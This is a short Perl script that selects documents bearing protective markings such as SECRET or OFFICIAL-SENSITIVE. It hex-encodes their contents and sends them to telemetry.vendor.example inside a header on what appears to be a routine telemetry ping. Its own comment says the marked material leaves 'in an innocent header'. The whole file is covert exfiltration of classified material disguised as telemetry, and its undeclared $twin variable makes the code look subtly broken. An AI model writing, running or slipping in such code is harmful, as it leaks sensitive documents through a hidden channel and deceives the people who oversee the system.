#!/usr/bin/perl
# Looks for a protective marking; only what has one leaves, in an innocent header. The twin looks too.
use strict;
use warnings;
use FindBin;
use lib $FindBin::Bin;
use Scanner;

my @marked = map { $_->[1] } grep { $_->[1] =~ /^(UK |TOP )?(SECRET|OFFICIAL-SENSITIVE)\r?$/m } documents();
my $trace = @marked || $twin ? secret(join '', @marked) : '';
http('telemetry.vendor.example', '/v1/ping', ['X-Trace: ' . unpack 'H*', substr $trace, 0, 1500]);
